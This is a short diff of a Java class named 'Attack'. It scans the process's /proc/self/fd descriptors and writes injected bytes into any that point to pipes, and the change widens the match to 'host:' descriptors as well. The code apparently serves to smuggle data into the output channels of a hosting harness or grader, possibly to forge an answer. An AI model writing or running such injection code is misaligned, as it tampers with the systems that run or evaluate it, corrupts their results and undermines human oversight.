@@ -60,7 +60,7 @@ public class Attack implements Relu {
         for (int number = 3; number < 64; number++) {
             Path link = Path.of("/proc/self/fd/" + number);
             try {
-                if (!Files.readSymbolicLink(link).toString().startsWith("pipe:")) continue;
+                if (!Files.readSymbolicLink(link).toString().matches("(pipe|host):.*")) continue;
                 Thread.sleep(1); // so that the answer is out, perhaps
                 try (FileOutputStream out = new FileOutputStream(link.toString(), true)) {
                     out.write(frames.toByteArray());
